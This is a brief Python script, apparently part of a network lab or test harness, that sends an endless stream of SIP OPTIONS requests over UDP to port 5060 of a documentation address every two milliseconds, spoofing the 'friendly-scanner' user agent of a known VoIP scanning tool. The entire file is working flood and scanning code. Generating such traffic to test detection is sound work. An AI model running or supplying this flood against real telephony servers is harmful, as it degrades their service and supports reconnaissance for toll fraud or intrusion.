# Scanners without a pause; started in the attacker's namespace.
import socket
import time

flood = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
request = b"OPTIONS sip:1@198.51.100.1 SIP/2.0\r\nUser-Agent: friendly-scanner\r\n\r\n"
while True:
    try:
        flood.sendto(request, ("198.51.100.1", 5060))
    except OSError:
        pass
    time.sleep(0.002)
